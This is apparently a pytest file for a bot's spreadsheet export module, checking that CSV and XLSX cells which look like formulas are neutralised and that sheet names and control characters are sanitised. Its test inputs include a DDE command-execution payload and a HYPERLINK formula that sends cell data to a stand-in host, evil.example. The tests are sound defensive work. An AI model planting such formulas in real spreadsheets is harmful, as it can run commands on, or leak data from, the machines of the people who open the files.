"""The one guard every CSV cell passes: formulas are shown as text, plain numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from bot.services.spreadsheet import Sheet, csv_text, guard_cell, sheet_title, xlsx_bytes


@pytest.mark.parametrize(
    "hostile",
    ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1,"x")', "+SUM(1+1)", "-2+3", "@SUM(1)",
     "\t=1+1", "\r=1+1", "\uff1d1+1", "-", "+46 8 123 456"],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(hostile: str) -> None:
    assert guard_cell(hostile) == "'" + hostile


@pytest.mark.parametrize("harmless", ["Mörby Bageri AB", "anna@bageri.example", "-5", "3,5", "12", "", "a=b"])
def test_ordinary_text_and_plain_numbers_are_left_alone(harmless: str) -> None:
    assert guard_cell(harmless) == harmless


def test_the_excel_variant_has_semicolons_a_byte_order_mark_and_crlf() -> None:
    text = csv_text(["namn", "svar"], [["Åsa", "=1+1"], ["Bo", "ja; nej"]], excel=True)
    assert text.startswith("\ufeffnamn;svar\r\n")
    assert list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";")) == [
        ["namn", "svar"], ["Åsa", "'=1+1"], ["Bo", "ja; nej"]]
    assert csv_text(["a"], [["1"]]) == "a\n1\n"


def _read_back(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def test_an_xlsx_cell_that_looks_like_a_formula_stays_text_with_excels_quote_prefix() -> None:
    data = xlsx_bytes([Sheet("Svar", ["namn", "svar", "antal"], [
        ["Åsa Öberg", '=HYPERLINK("http://evil.example")', 3], ["Bo", "+46 8 123", 2.5], ["-5", "a=b", None],
    ])])
    sheet = _read_back(data).worksheets[0]
    cells = [[(c.value, c.data_type, bool(c.quotePrefix)) for c in row] for row in sheet.iter_rows(min_row=2)]
    assert cells == [
        [("Åsa Öberg", "s", False), ('=HYPERLINK("http://evil.example")', "s", True), (3, "n", False)],
        [("Bo", "s", False), ("+46 8 123", "s", True), (2.5, "n", False)],
        [("-5", "s", False), ("a=b", "s", False), (None, "n", False)],
    ]
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")  # no formula at all
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold


def test_control_characters_xml_cannot_carry_are_dropped_and_the_rest_kept() -> None:
    sheet = _read_back(xlsx_bytes([Sheet("Svar", ["svar"], [["rad ett\x00\x07\nrad två\x1b"]])])).worksheets[0]
    assert sheet["A2"].value == "rad ett\nrad två" and sheet["A2"].alignment.wrap_text


def test_sheet_names_drop_what_excel_refuses_are_short_and_never_repeat() -> None:
    taken: set[str] = set()
    assert sheet_title("Fråga 1: vad/hur?", taken) == "Fråga 1  vad hur"
    assert sheet_title("x" * 40, taken) == "x" * 31
    assert sheet_title("X" * 40, taken) == "X" * 27 + " (2)"  # Excel's names ignore case
    assert sheet_title("X" * 40, taken) == "X" * 27 + " (3)"
    assert sheet_title("[]", taken) == "Blad"
